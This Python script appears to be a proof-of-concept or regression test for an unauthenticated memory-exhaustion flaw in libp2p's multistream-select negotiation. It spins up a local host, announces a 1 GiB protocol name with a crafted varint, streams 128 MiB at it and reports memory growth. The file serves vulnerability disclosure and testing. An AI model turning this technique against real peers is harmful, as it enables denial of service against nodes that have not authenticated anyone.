"""Before any authentication, one TCP connection fills the listener's memory: multistream-select."""

import sys

import trio
from libp2p import new_host
from multiaddr import Multiaddr

SENT = 128 * 2**20
HANDSHAKE = b"\x13/multistream/1.0.0\n"
# The length of the next message as a varint: 2^30.
GIBIBYTE = b"\x80\x80\x80\x80\x04"


def resident() -> int:
    with open("/proc/self/statm") as file:
        return int(file.read().split()[1]) * 4096


async def main():
    victim = new_host()
    async with victim.run([Multiaddr("/ip4/127.0.0.1/tcp/0")]):
        port = int(victim.get_addrs()[0].value_for_protocol("tcp"))
        stream = await trio.open_tcp_stream("127.0.0.1", port)
        await stream.send_all(HANDSHAKE + GIBIBYTE)
        before, chunk, sent = resident(), bytes(2**20), 0
        try:
            with trio.move_on_after(60):
                while sent < SENT:
                    await stream.send_all(chunk)
                    sent += len(chunk)
                await trio.sleep(1)
        except trio.BrokenResourceError:
            print("the victim hung up after", sent, "bytes")
        grown = resident() - before
        await stream.aclose()
    print(f"sent {sent >> 20} MiB as one protocol name; the victim holds {grown >> 20} MiB more")
    return 0 if grown > SENT // 2 else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
